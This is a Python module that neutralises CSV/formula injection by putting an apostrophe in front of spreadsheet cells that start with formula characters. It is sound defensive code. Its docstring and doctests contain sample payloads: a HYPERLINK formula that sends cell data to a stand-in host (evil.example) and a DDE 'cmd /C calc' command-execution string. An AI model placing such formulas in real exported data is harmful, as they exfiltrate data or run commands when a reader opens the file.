"""Cells that a spreadsheet will not run: protection against CSV (formula) injection.

A spreadsheet program that opens a CSV, TSV or Markdown table treats a cell that starts with ``=``,
``+``, ``-`` or ``@`` (and, in some programs, a tab or carriage return) as a formula, so a label
such as ``=HYPERLINK("http://evil.example/?"&A1, "Pajala")`` in the data would run on the reader's
machine. Every format meant for spreadsheets therefore writes such a cell with a leading apostrophe
(``'=HYPERLINK(…)``), which spreadsheets show as text (the OWASP recommendation). Numbers such as
``-0.5`` or ``+3`` are not formulas and stay as they are. JSON, Turtle and the terminal table keep
every value unchanged.
"""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralise(value: object) -> object:
    """``value`` safe for a spreadsheet cell: text that would start a formula gets a leading ``'``.

    >>> neutralise('=HYPERLINK("http://evil.example","x")')
    '\\'=HYPERLINK("http://evil.example","x")'
    >>> neutralise("@SUM(A1)"), neutralise("-0.5"), neutralise("+46"), neutralise("Pajala"), neutralise(3)
    ("'@SUM(A1)", '-0.5', '+46', 'Pajala', 3)
    >>> neutralise("-1+cmd|' /C calc'!A0")
    "'-1+cmd|' /C calc'!A0"
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


__all__ = ["FORMULA_STARTS", "neutralise"]
